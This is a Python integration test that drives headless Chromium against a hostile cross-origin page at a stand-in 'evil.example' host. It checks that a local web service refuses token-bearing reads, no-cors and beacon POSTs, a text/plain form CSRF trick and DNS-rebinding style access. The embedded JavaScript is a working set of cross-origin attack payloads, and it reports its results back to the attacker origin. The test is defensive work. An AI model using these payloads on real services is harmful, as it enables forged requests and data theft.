"""A page on another origin, in a real browser: it knows where the service is and even the token, and gets nowhere."""

from __future__ import annotations

import contextlib
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import httpx
import pytest

from benchmarks.service import wait_for
from tests.integration.web_service import FRESHRSS_TOKEN, TOKEN, everything, serving
from tests.integration.world import article, clusterer, ingest, text
from worker.store.store import Store

PATIENCE_SECONDS: Final = 60.0
BROWSER: Final = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
PAGE: Final = """<!doctype html><title>evil</title><body><script>
const site = SITE, token = TOKEN, hook = HOOK;
const article = JSON.stringify({id: "evil", text: "What a page of strangers says."});
const headers = {"Content-Type": "application/json", "Authorization": `Bearer ${token}`};
const attempts = {
  read: async () => (await fetch(`${site}/stories`)).text(),
  read_with_token: async () => (await fetch(`${site}/stories`, {headers})).text(),
  read_opaquely: async () => (await fetch(`${site}/stories`, {mode: "no-cors"})).text(),
  read_feed: async () => (await fetch(`${site}/feeds/stories.json?token=${token}`)).text(),
  push: async () => (await fetch(`${site}/articles`, {method: "POST", headers, body: article})).text(),
  push_plainly: async () => (await fetch(`${site}/articles`, {method: "POST", mode: "no-cors", body: article})).text(),
  push_by_hook: async () => (await fetch(`${site}/hooks/freshrss?token=${hook}`,
    {method: "POST", mode: "no-cors", body: '{"id": "evil", "title": "Evil"}'})).text(),
  beacon: async () => { navigator.sendBeacon(`${site}/hooks/freshrss?token=${hook}`, article); return ""; },
  follow: () => new Promise(resolve => {
    const source = new EventSource(`${site}/changes`);
    source.onmessage = source.onopen = () => resolve("followed");
    source.onerror = () => { source.close(); resolve(""); };
  }),
  include: () => new Promise(resolve => {
    const script = document.createElement("script");
    script.onload = () => resolve("included");
    script.onerror = () => resolve("");
    script.src = `${site}/stories`;
    document.body.append(script);
  }),
  frame: () => new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { resolve(frame.contentDocument.body.textContent); } catch { resolve(""); } };
    frame.src = `${site}/stories`;
    document.body.append(frame);
  }),
  form: () => new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", enctype: "text/plain", target: "target",
      action: `${site}/hooks/freshrss?token=${hook}`});
    const field = document.createElement("input");
    Object.assign(field, {name: '{"id": "evil", "title": "', value: 'Evil"}'});
    form.append(field);
    document.body.append(form);
    frame.onload = () => resolve("");
    form.submit();
  }),
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { found[name] = await attempt(); } catch { found[name] = ""; }
  }
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""

pytestmark = pytest.mark.skipif(BROWSER is None, reason="no Chromium or Chrome is on PATH")


class Page(ThreadingHTTPServer):
    """A site with one page, and what that page found."""

    daemon_threads = True

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), _Request)
        self.page = page.encode()
        self.found: dict[str, str] = {}


class _Request(BaseHTTPRequestHandler):
    server: Page

    def do_GET(self) -> None:
        self._answer(self.server.page if self.path == "/" else b"")

    def do_POST(self) -> None:
        self.server.found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Says nothing."""


@pytest.fixture
def log(tmp_path: Path) -> Path:
    return tmp_path / "log"


@pytest.fixture
def web(store: Store, server_url: str, log: Path) -> Iterator[httpx.Client]:
    """A service on loopback in which anyone on the machine may look up, with a story in it."""
    ingest(store, article("known", text("known"), title="A story to be read"))
    clusterer(store).run(1_767_323_045.0)
    with serving(server_url, log, **everything()) as client:
        yield client


@contextlib.contextmanager
def page_of(web: httpx.Client) -> Iterator[Page]:
    """The page, as another origin has it."""
    page = PAGE
    for name, value in (("SITE", str(web.base_url).rstrip("/")), ("TOKEN", TOKEN), ("HOOK", FRESHRSS_TOKEN)):
        page = page.replace(f"= {name}", f"= {json.dumps(value)}", 1)
    with Page(page) as site:
        thread = threading.Thread(target=site.serve_forever, daemon=True)
        thread.start()
        yield site
        site.shutdown()
        thread.join()


@contextlib.contextmanager
def browsing(url: str, folder: Path, *words: str) -> Iterator[subprocess.Popen[bytes]]:
    """A browser that looks at an address."""
    assert BROWSER is not None
    command = [
        BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", f"--user-data-dir={folder / 'profile'}",
        "--host-resolver-rules=MAP evil.example 127.0.0.1", *words, url,
    ]  # fmt: skip
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as process:
        try:
            yield process
        finally:
            process.terminate()
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                process.kill()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"])
def test_a_page_of_another_origin_can_neither_read_nor_push(
    web: httpx.Client, store: Store, log: Path, tmp_path: Path, host: str
) -> None:
    assert "A story to be read" in web.get("/stories").text
    with page_of(web) as site, browsing(f"http://{host}:{site.server_port}/", tmp_path):
        wait_for(lambda: site.found, PATIENCE_SECONDS, "the page has tried everything")
    assert len(site.found) == 12
    assert {name: told for name, told in site.found.items() if told} == {}
    assert store.inbox.n_waiting() == 0
    assert store.rejected.size() == 0
    wait_for(lambda: "OPTIONS /articles 403" in log.read_text(encoding="utf-8"), 10, "the browser asked in advance")
    lines = [line.rpartition("dedup.web: ")[2] for line in log.read_text(encoding="utf-8").splitlines()]
    asked = {line.rsplit(" ", 2)[0] for line in lines if line.startswith(("GET", "POST", "OPTIONS"))} - {
        "GET /stories 200"
    }
    assert {"GET /stories 403", "OPTIONS /stories 403", "POST /articles 403", "POST /hooks/freshrss 403"} <= asked
    assert all(line.endswith(" 403") for line in asked)


def test_a_name_that_resolves_to_loopback_leads_nowhere(web: httpx.Client, tmp_path: Path) -> None:
    url = f"http://evil.example:{web.base_url.port}/stories"
    with browsing(url, tmp_path, "--dump-dom", "--timeout=20000") as browser:
        shown, _ = browser.communicate(timeout=PATIENCE_SECONDS)
    assert "this host name is not one of the service" in shown.decode()
    assert "A story to be read" not in shown.decode()
